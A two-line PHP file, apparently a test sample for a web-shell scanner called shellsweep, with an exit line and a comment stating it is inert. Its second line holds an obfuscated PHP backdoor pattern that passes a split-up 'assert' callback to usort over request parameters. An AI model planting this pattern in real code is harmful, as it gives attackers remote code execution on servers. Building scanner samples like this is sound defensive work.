<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php usort($_GET, 'asse'.'rt'); ?>
